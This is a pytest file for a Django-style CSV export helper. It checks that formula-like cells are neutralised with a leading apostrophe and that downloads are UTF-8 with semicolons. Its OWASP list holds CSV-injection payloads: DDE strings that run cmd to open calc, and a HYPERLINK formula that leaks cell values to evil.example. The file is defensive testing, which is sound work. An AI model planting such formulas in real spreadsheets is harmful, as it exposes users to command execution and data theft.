"""The one CSV writer: every cell a spreadsheet would run is neutralised (OWASP "CSV Injection"),
and the download is UTF-8 with its byte-order mark, cells separated by ";"."""

import csv
import io

import pytest

from apart.core.csv import csv_response, neutralise


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+33", "'+33"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("CLEAN DESK", "CLEAN DESK"),
    ],
)
def test_cells_that_spreadsheets_would_run_are_neutralised(cell, expected):
    assert neutralise(cell) == expected


# The OWASP list of formula injections (https://owasp.org/www-community/attacks/CSV_Injection),
# and the cases the two former escapers disagreed on (a leading line feed).
OWASP_PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?leak="&A1&A2,"Error: please click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_every_owasp_payload_starts_with_an_apostrophe(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize("payload", [" =1+1", "  @SUM(A1)", "＝1+1", "＋33", "－2", "＠SUM(A1)"])
def test_leading_spaces_and_full_width_signs_do_not_hide_a_formula(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [("", ""), (None, ""), (12, "12"), ("Dupont-Martin", "Dupont-Martin"), ("a=b", "a=b")],
)
def test_harmless_cells_are_left_as_they_are(value, expected):
    assert neutralise(value) == expected


def test_the_download_is_utf8_with_its_mark_and_semicolons():
    response = csv_response(
        [["nom", "montant"], ["Société Générale", "=1+1"], ["ligne\nsur deux", "-3"]],
        filename="export été.csv",
    )

    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert "export" in response["Content-Disposition"]
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(body[1:]), delimiter=";"))
    assert rows == [
        ["nom", "montant"],
        ["Société Générale", "'=1+1"],
        ["ligne\nsur deux", "'-3"],
    ]
